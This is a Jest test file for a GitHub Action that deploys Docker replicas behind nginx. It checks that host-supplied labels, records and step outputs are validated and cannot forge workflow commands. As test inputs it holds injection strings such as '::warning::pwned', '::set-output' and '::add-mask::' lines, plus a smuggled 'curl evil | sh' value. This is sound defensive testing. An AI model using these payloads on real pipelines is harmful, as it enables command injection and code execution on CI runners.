// What a host sends back is data. A replica whose image label holds a newline, quotes and '::warning::...'
// once made a run print a forged workflow command and put the text into the step outputs that workflows paste
// into shell lines. Every value read from a host passes the rule of the input it stands for, or the run
// refuses (a container) or drops it (a record) and says so with the value quoted; outputs are checked once
// more as they are set; log lines that carry a host's text cannot start a workflow command.
import { afterEach, describe, expect, it, jest } from '@jest/globals'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { RunContext } from '../../src/github/deployment.js'
import { hostProblems } from '../../src/host/checks.js'
import { parseCanaryState, parseContainers, parseHistory } from '../../src/host/state.js'
import { Journal } from '../../src/journal.js'
import { commandSafe, mayCarryCommand, safeInfo } from '../../src/log.js'
import { operate } from '../../src/operate.js'
import { publish } from '../../src/publish.js'
import { outputProblem, quoteHostText } from '../../src/rules.js'
import { Cancellation } from '../../src/run/cancel.js'
import type { ExecResult } from '../../src/remote/ssh.js'
import { configFrom } from './fixtures.js'
import { FakeRemote, fakeFleet, hostState, idOf, pausedCanary, recordingLogger, THREE_HOSTS } from './fakes.js'

/** The label of the report: a newline, quotes of both kinds, and a workflow command on a line of its own. */
const EVIL = `shop:v1\n"quoted" 'too'\n::warning::pwned`
/** EVIL as a message must show it: JSON-quoted, so the newlines are the two characters \n. */
const EVIL_QUOTED = JSON.stringify(EVIL)

const host = { id: 'a', upstreamAddress: '10.0.0.1' }

/** One line of `docker inspect` output for a replica of shop on host a. */
const inspectLine = (port: number, labels: Record<string, string> = {}) =>
  JSON.stringify({
    id: idOf('a', port),
    name: `/shop-${port}`,
    state: 'running',
    pid: 4242,
    labels: {
      'nginx-rollout.app': 'shop',
      'nginx-rollout.role': 'replica',
      'nginx-rollout.image': 'ghcr.io/acme/shop:1.4.2',
      'nginx-rollout.port': String(port),
      'nginx-rollout.color': '',
      ...labels,
    },
  })

/**
 * The workflow commands the runner would act on in what the step printed, as actions/runner's
 * ActionCommandManager reads them: lines split at \n, \r and \r\n; '::name props::data' once leading white
 * space is trimmed, or the old '##[name props]data' anywhere in a line; while commands are stopped, nothing but
 * the stop's token.
 */
function runnerCommands(printed: string): Array<{ name: string; data: string }> {
  const commands: Array<{ name: string; data: string }> = []
  let stoppedUntil: string | undefined
  for (const line of printed.split(/\r\n|\r|\n/)) {
    const m = /^[\s\u0085]*::([^\s:]+)[^:]*::(.*)$/.exec(line) ?? /##\[([^\s\]]+)[^\]]*\](.*)$/.exec(line)
    if (!m) continue
    const [, name, data] = m
    if (stoppedUntil !== undefined) {
      if (name === stoppedUntil) stoppedUntil = undefined
    } else if (name === 'stop-commands') stoppedUntil = data
    else commands.push({ name, data })
  }
  return commands
}

/** Runs `f`, keeping what it prints on standard output (where core writes the log and its commands). */
async function printedBy<T>(f: () => Promise<T>): Promise<{ value: T; printed: string }> {
  const chunks: string[] = []
  const write = jest.spyOn(process.stdout, 'write').mockImplementation((chunk) => {
    chunks.push(String(chunk))
    return true
  })
  try {
    const value = await f()
    return { value, printed: chunks.join('') }
  } finally {
    write.mockRestore()
  }
}

const forged = (printed: string) => runnerCommands(printed).filter((c) => c.data.startsWith('pwned'))

describe('quoteHostText', () => {
  it('quotes a host text as JSON, so newlines, quotes and control characters show escaped', () => {
    expect(quoteHostText(EVIL)).toBe(`"shop:v1\\n\\"quoted\\" 'too'\\n::warning::pwned"`)
    expect(quoteHostText('a\rb\tc\u0000d\u001b[31m')).toBe('"a\\rb\\tc\\u0000d\\u001b[31m"')
  })

  it('spells out what JSON leaves raw: DEL, C1 controls, line separators, bidirectional controls', () => {
    expect(quoteHostText('a\u007fb\u0085c\u2028d\u2029e\u202ef\u2066g')).toBe(
      '"a\\u007fb\\u0085c\\u2028d\\u2029e\\u202ef\\u2066g"',
    )
  })

  it('shows the first 120 characters and says how long the text is', () => {
    expect(quoteHostText('x'.repeat(500))).toBe(`"${'x'.repeat(120)}"... (500 characters)`)
    expect(quoteHostText('x'.repeat(120))).toBe(`"${'x'.repeat(120)}"`)
  })

  it('shows what is not text as JSON, and nothing as nothing', () => {
    expect(quoteHostText(7)).toBe('7')
    expect(quoteHostText(null)).toBe('null')
    expect(quoteHostText(['a\nb'])).toBe('["a\\nb"]')
    expect(quoteHostText(undefined)).toBe('nothing')
  })
})

describe('a replica whose labels break their rules', () => {
  it('is refused: the problem names the host, the container and the label, its value quoted, on one line', () => {
    const { containers, ignored, problems } = parseContainers(
      [inspectLine(9201), inspectLine(9202, { 'nginx-rollout.image': EVIL })].join('\n'),
      host,
      'shop',
    )
    expect(containers.map((c) => c.name)).toEqual(['shop-9201'])
    expect(ignored).toEqual([])
    expect(problems).toEqual([
      `a: container "shop-9202" has label nginx-rollout.image: expected a Docker image reference, got ${EVIL_QUOTED}; ` +
        'the action writes no such label, so something else changed the container: find out what, and remove it',
    ])
    expect(problems[0]).not.toContain('\n')
  })

  it("stops only a run of the container's own app: another app's run passes it over with a warning", () => {
    const line = inspectLine(9202, { 'nginx-rollout.image': EVIL })
    const other = parseContainers(line.replaceAll('shop', 'blog'), host, 'shop')
    expect(other.containers).toEqual([])
    expect(other.problems).toEqual([])
    expect(other.ignored).toHaveLength(1)
    expect(other.ignored[0]).toMatch(/^container "blog-9202" has label nginx-rollout\.image: expected a Docker image/)
    expect(other.ignored[0]).toContain(`(app "blog"'s, not this run's: passed over)`)
    expect(other.ignored[0]).not.toContain('\n')
    expect(parseContainers(line, host, 'shop').problems).toHaveLength(1)
  })

  it.each([
    ['no image label', { 'nginx-rollout.image': '' }, 'nginx-rollout.image', '""'],
    [
      'an image label with a space',
      { 'nginx-rollout.image': 'shop:v1 --privileged' },
      'nginx-rollout.image',
      '"shop:v1 --privileged"',
    ],
    ['an image label with an uppercase path', { 'nginx-rollout.image': 'Shop:v1' }, 'nginx-rollout.image', '"Shop:v1"'],
    [
      'a colour of its own',
      { 'nginx-rollout.color': 'blue\n::error::x' },
      'nginx-rollout.color',
      '"blue\\n::error::x"',
    ],
  ])('is refused with %s', (_what, labels, label, shown) => {
    const { containers, problems } = parseContainers(inspectLine(9202, labels), host, 'shop')
    expect(containers).toEqual([])
    expect(problems).toEqual([expect.stringContaining(`has label ${label}: expected `)])
    expect(problems[0]).toContain(`got ${shown};`)
  })

  it('stops the run before anything is planned: hostProblems reports it, before nginx problems', () => {
    const config = configFrom({ ...THREE_HOSTS })
    const state = hostState([], new Map(), { problems: ['a: container "shop-9202" has label ...'] })
    const withNginx = { ...state, nginx: { ...state.nginx, problems: ['nginx: broken'] } }
    expect(hostProblems(config, withNginx)).toEqual(['a: container "shop-9202" has label ...', 'nginx: broken'])
    expect(hostProblems(config, hostState([], new Map()))).toEqual([])
  })
})

describe('records whose values break their rules', () => {
  const entry = {
    image: 'shop:v2',
    previousImage: 'shop:v1',
    result: 'deployed',
    at: '2026-05-01T10:00:00.000Z',
    strategy: 'rolling',
    operation: 'deploy',
  }
  const history = (entries: unknown[]) => {
    const warnings: string[] = []
    return { entries: parseHistory(JSON.stringify(entries), (m) => warnings.push(m)), warnings }
  }

  it.each([
    ['image', { image: EVIL }, `image: expected a Docker image reference, got ${EVIL_QUOTED}`],
    [
      'previousImage',
      { previousImage: EVIL },
      `previousImage: expected '' or a Docker image reference, got ${EVIL_QUOTED}`,
    ],
    ['result', { result: EVIL }, `result: expected a result like deployed, got ${EVIL_QUOTED}`],
    ['strategy', { strategy: 'rolling\n' }, 'strategy: expected a strategy like rolling, got "rolling\\n"'],
    ['operation', { operation: '::warning::x' }, 'operation: expected an operation, got "::warning::x"'],
    ['at', { at: 'yesterday\n' }, 'at: expected a UTC time like 2026-05-01T10:00:00Z, got "yesterday\\n"'],
  ])('drops a history entry whose %s breaks its rule, with a warning on one line', (_field, over, why) => {
    const { entries, warnings } = history([entry, { ...entry, ...over }])
    expect(entries).toEqual([entry])
    expect(warnings).toEqual([
      `history.json on the nginx host: 1 malformed entries ignored (the first, entry 2: ${why})`,
    ])
    expect(warnings[0]).not.toContain('\n')
  })

  it("keeps a first deploy's entry, whose previous image is none", () => {
    expect(history([{ ...entry, previousImage: '' }])).toEqual({
      entries: [{ ...entry, previousImage: '' }],
      warnings: [],
    })
  })

  const observation = {
    verdict: 'pass' as const,
    percent: 10,
    seconds: 60,
    reason: 'canary 0.00% of 80, stable 0.50% of 800',
    canary: { requests: 80, errors: 0, rate: 0 },
    stable: { requests: 800, errors: 4, rate: 0.5 },
  }
  const canary = pausedCanary([{ host: 'a', name: 'shop-9203' }], {
    observations: [observation],
    pushes: [
      { image: 'shop:v2-rc1', sha: 'fedcba', at: '2026-05-01T09:00:00Z', observations: [], outcome: 'replaced' },
    ],
  })
  const readCanary = (value: unknown) => {
    const warnings: string[] = []
    return { state: parseCanaryState(JSON.stringify(value), 'a', (m) => warnings.push(m)), warnings }
  }

  it('reads a well-formed canary record (the cases below differ from it in one value)', () => {
    expect(readCanary(canary)).toEqual({ state: canary, warnings: [] })
  })

  it.each<[string, Record<string, unknown>, string]>([
    ['image', { image: EVIL }, `image: expected a Docker image reference, got ${EVIL_QUOTED}`],
    ['stableImage', { stableImage: EVIL }, `stableImage: expected '' or a Docker image reference, got ${EVIL_QUOTED}`],
    ['at', { at: '::warning::x' }, 'at: expected a UTC time like 2026-05-01T10:00:00Z, got "::warning::x"'],
    ['weight', { weight: 10.5 }, 'weight is not a percentage'],
    [
      'remainingSteps',
      { remainingSteps: [50, 150] },
      'remainingSteps: expected percentages from 1 to 100, got [50,150]',
    ],
    ['remainingSteps', { remainingSteps: [0] }, 'remainingSteps: expected percentages from 1 to 100, got [0]'],
    [
      'a replica name',
      { replicas: [{ host: 'a', name: `shop-9203\n::warning::pwned` }] },
      'replicas: expected container names like <app>-<port> on app hosts, got "shop-9203\\n::warning::pwned" on "a"',
    ],
    [
      'a replica name without a port',
      { replicas: ['shop'] },
      'replicas: expected container names like <app>-<port> on app hosts, got "shop" on "a"',
    ],
    [
      'a replica port out of range',
      { replicas: [{ host: 'a', name: 'shop-70000' }] },
      'replicas: expected container names like <app>-<port> on app hosts, got "shop-70000" on "a"',
    ],
    [
      'a replica host',
      { replicas: [{ host: 'a b', name: 'shop-9203' }] },
      'replicas: expected container names like <app>-<port> on app hosts, got "shop-9203" on "a b"',
    ],
    [
      "a push's image",
      { pushes: [{ ...canary.pushes![0], image: EVIL }] },
      `pushes: expected Docker image references, got ${EVIL_QUOTED}`,
    ],
    [
      "a push's sha",
      { pushes: [{ ...canary.pushes![0], sha: 'fedcba\n' }] },
      'pushes: expected UTC times and commit ids, got "2026-05-01T09:00:00Z" and "fedcba\\n"',
    ],
    [
      "an observation's verdict",
      { observations: [{ ...observation, verdict: '::error::x' }] },
      'observations are malformed',
    ],
  ])('ignores as stale a canary record whose %s breaks its rule, with a warning on one line', (_what, over, why) => {
    const { state, warnings } = readCanary({ ...canary, ...over })
    expect(state).toBeUndefined()
    expect(warnings).toEqual([`canary.json on the nginx host is malformed (${why}): ignored as stale`])
    expect(warnings[0]).not.toContain('\n')
  })

  it("drops a canary's sha that is not a commit id, and keeps the record", () => {
    expect(readCanary({ ...canary, sha: 'abc\n::warning::x' }).state).not.toHaveProperty('sha')
  })
})

describe('step outputs', () => {
  it.each<[Parameters<typeof outputProblem>[0], string]>([
    ['image', 'ghcr.io/acme/shop:1.4.2'],
    ['image', ''],
    ['previous-image', 'shop@sha256:' + 'a'.repeat(64)],
    ['result', 'rolled-back'],
    ['color', 'green'],
    ['canary-weight', '10'],
    ['canary-weight', '0'],
    ['replicas', '[]'],
    ['replicas', JSON.stringify([{ host: '[::1]:2222', name: 'shop-9201', port: 9201, image: 'shop:v2' }])],
  ])('lets %s be %j', (name, value) => {
    expect(outputProblem(name, value)).toBeUndefined()
  })

  it.each<[Parameters<typeof outputProblem>[0], string]>([
    ['image', EVIL],
    ['previous-image', 'shop:v1"; curl evil | sh; "'],
    ['result', 'deployed\n::warning::x'],
    ['color', 'red'],
    ['canary-weight', '101'],
    ['canary-weight', '1e2'],
    ['replicas', JSON.stringify([{ host: 'a', name: 'shop-9201', port: 9201, image: EVIL }])],
    ['replicas', JSON.stringify([{ host: 'a', name: 'shop-9201', port: '9201', image: 'shop:v1' }])],
    ['replicas', 'not json'],
  ])('withholds %s of %j, saying what it expected and quoting what it got', (name, value) => {
    expect(outputProblem(name, value)).toMatch(new RegExp(`^output ${name}: expected .+, got "`))
    expect(outputProblem(name, value)).not.toContain('\n')
  })

  describe('publish', () => {
    // The runner's files for outputs and the summary: this test's own, whatever the environment it runs in.
    const saved = { GITHUB_OUTPUT: process.env.GITHUB_OUTPUT, GITHUB_STEP_SUMMARY: process.env.GITHUB_STEP_SUMMARY }
    const dirs: string[] = []
    afterEach(() => {
      for (const [name, value] of Object.entries(saved))
        if (value === undefined) delete process.env[name]
        else process.env[name] = value
      dirs.splice(0).forEach((d) => rmSync(d, { recursive: true, force: true }))
    })

    /** The outputs a step set, read back from the GITHUB_OUTPUT file as the runner reads it. */
    const outputsIn = (text: string): Record<string, string> =>
      Object.fromEntries(
        [...text.matchAll(/^(.+?)<<(ghadelimiter_[\w-]+)\n([\s\S]*?)\n\2$/gm)].map((m) => [m[1], m[3]]),
      )

    it("sets '' and warns, never prints, for an output whose value breaks its rule", async () => {
      const dir = mkdtempSync(join(tmpdir(), 'nr-outputs-'))
      dirs.push(dir)
      process.env.GITHUB_OUTPUT = join(dir, 'output')
      writeFileSync(process.env.GITHUB_OUTPUT, '')
      delete process.env.GITHUB_STEP_SUMMARY
      const gh: RunContext = { sha: 'abc1234', eventName: 'push', actor: 'alice', apiUrl: 'https://api.github.com' }
      const serving = [{ host: 'docker.example.com', address: '127.0.0.1', name: 'shop-9201', port: 9201, image: EVIL }]
      const { printed } = await printedBy(() =>
        publish(
          configFrom({ operation: 'status', image: '' }),
          gh,
          undefined,
          new Journal(Date.now()),
          { result: 'deployed', canaryWeight: '', serving, configDiff: '' },
          undefined,
        ),
      )
      const outputs = outputsIn(readFileSync(process.env.GITHUB_OUTPUT, 'utf8'))
      expect(outputs).toMatchObject({ result: 'deployed', image: '', replicas: '', color: '', 'canary-weight': '' })
      expect(Object.values(outputs).join('\n')).not.toContain('pwned')
      expect(runnerCommands(printed).filter((c) => c.name === 'warning')).toEqual([
        {
          name: 'warning',
          data: expect.stringMatching(/^output image: expected a Docker image reference, got "shop:v1\\n\\"quoted/),
        },
        { name: 'warning', data: expect.stringMatching(/^output replicas: expected a JSON list of replicas/) },
      ])
      expect(forged(printed)).toEqual([])
    })
  })
})

describe('log lines that carry a host text', () => {
  it.each([
    '::warning::pwned',
    'shop-9201 shop:v1\n::warning::pwned',
    'a\r::set-output name=image::x',
    'a\r\n  \t::add-mask::x',
    '\u0085::warning::x',
    '\u00a0\u3000::warning::x',
    'anything ##[warning]pwned',
  ])('could carry a workflow command: %j', (text) => {
    expect(mayCarryCommand(text)).toBe(true)
  })

  it.each(['a: shop-9201 ghcr.io/acme/shop:1.4.2 (blue) running', '[::1]:2222: no replica', 'a: ::1 is loopback'])(
    'are printed as they are when no line could be a command: %j',
    (text) => {
      expect(mayCarryCommand(text)).toBe(false)
      expect(commandSafe(text, 'token')).toBe(text)
    },
  )

  it('stop command processing around a text that could carry one, with a token the text does not hold', () => {
    expect(commandSafe('a\n::warning::pwned', '0123abcd')).toBe(
      '::stop-commands::0123abcd\na\n::warning::pwned\n::0123abcd::',
    )
    const wrapped = commandSafe('::0123abcd::\n::warning::pwned', '0123abcd')
    expect(wrapped).toMatch(/^::stop-commands::([0-9a-f]{32})\n::0123abcd::\n::warning::pwned\n::\1::$/)
  })

  it('safeInfo prints the text whole, and the runner acts on no command in it', async () => {
    const { printed } = await printedBy(async () => safeInfo(`lock taken over\n${EVIL}\n##[error]pwned too`))
    expect(printed).toContain(`lock taken over\n${EVIL}\n##[error]pwned too\n`)
    expect(runnerCommands(printed)).toEqual([])
    // Two texts, two tokens: one text cannot end the other's stop.
    const twice = await printedBy(async () => (safeInfo('::warning::x'), safeInfo('::warning::y')))
    const tokens = [...twice.printed.matchAll(/^::stop-commands::(\w+)$/gm)].map((m) => m[1])
    expect(new Set(tokens).size).toBe(2)
  })
})

describe('operate, given a host that sends a forged label', () => {
  /** One framed section of a sectioned command's output. */
  const frame = (name: string, out = '', code = 0): string =>
    `\n@@nginx-rollout ${name} ${code} ${Buffer.byteLength(out)} 0\n${out}`
  const SECTIONED = /nr_t=\$\(mktemp -d\)/
  const gh: RunContext = { sha: 'abc1234', eventName: 'push', actor: 'alice', apiUrl: 'https://api.github.com' }

  /** lb holds no records and no nginx yet, and notes `lockNote` as it takes the lock; host a runs shop-9201 and a forged shop-9202. */
  function hosts(lockNote = '') {
    const lb = new FakeRemote('lb', [
      [SECTIONED, { stdout: frame('first', lockNote) + frame('history') + frame('canary') + frame('nginx') }],
    ])
    const containers = [inspectLine(9201), inspectLine(9202, { 'nginx-rollout.image': EVIL })].join('\n')
    const answers: Record<string, Partial<ExecResult>> = {
      a: { stdout: frame('containers', containers) + frame('retired') },
      b: { stdout: frame('containers') + frame('retired') },
      c: { stdout: frame('containers') + frame('retired') },
    }
    const apps = Object.fromEntries(
      Object.entries(answers).map(([name, answer]) => [name, new FakeRemote(name, [[SECTIONED, answer]])]),
    )
    return { lb, apps, fleet: fakeFleet(configFrom({ ...THREE_HOSTS }), lb, apps) }
  }
  const run = (fleet: ReturnType<typeof hosts>['fleet'], operation: string) =>
    printedBy(() =>
      operate({
        config: configFrom({ ...THREE_HOSTS, operation, image: operation === 'deploy' ? 'shop:v2' : '' }),
        gh,
        recorder: undefined,
        journal: new Journal(Date.now()),
        fleet,
        log: recordingLogger(),
        cancel: new Cancellation(),
      }),
    )

  it('refuses a deploy before changing anything, naming the host, the container and the value quoted', async () => {
    const { lb, apps, fleet } = hosts(`took over a stale lock\n${EVIL}`)
    const { value: end, printed } = await run(fleet, 'deploy')
    expect(end.result).toBe('failed')
    expect(end.failure).toContain(
      `a: container "shop-9202" has label nginx-rollout.image: expected a Docker image reference, got ${EVIL_QUOTED}`,
    )
    expect(end.failure).not.toContain(EVIL)
    // Each app host was read, and its port reservations by this run (none) released; the nginx host was
    // read, then its lock released.
    const RELEASE_PORTS = /read -r _ tok _/
    for (const app of Object.values(apps))
      expect(app.texts.map((t) => (SECTIONED.test(t) ? 'read' : RELEASE_PORTS.test(t) ? 'release ports' : t))).toEqual([
        'read',
        'release ports',
      ])
    // The records command at the end writes neither history nor canary record ('' for both): it only unlocks.
    const records = (argv: readonly string[]) =>
      `records: history '${argv.at(-3)}', canary '${argv.at(-1)}', ${argv.at(-5)}`
    expect(
      lb.commands.map((c, i) =>
        SECTIONED.test(lb.texts[i]) ? 'read' : /release=\$3/.test(lb.texts[i]) ? records(c.argv) : lb.texts[i],
      ),
    ).toEqual(['read', "records: history '', canary '', release"])
    expect(forged(printed)).toEqual([])
  })

  it('reports it in a status, which changes nothing, and leaves the container out of what serves', async () => {
    const { lb, fleet } = hosts(`took over a stale lock\n${EVIL}`)
    const { value: end, printed } = await run(fleet, 'status')
    expect(end.failure).toBeUndefined()
    expect(end.serving.map((r) => r.image)).not.toContain(EVIL)
    expect(lb.commands).toHaveLength(1)
    const warnings = runnerCommands(printed).filter((c) => c.name === 'warning')
    expect(warnings.map((w) => w.data)).toContainEqual(
      expect.stringContaining(
        'a: container "shop-9202" has label nginx-rollout.image: expected a Docker image reference',
      ),
    )
    expect(forged(printed)).toEqual([])
  })
})
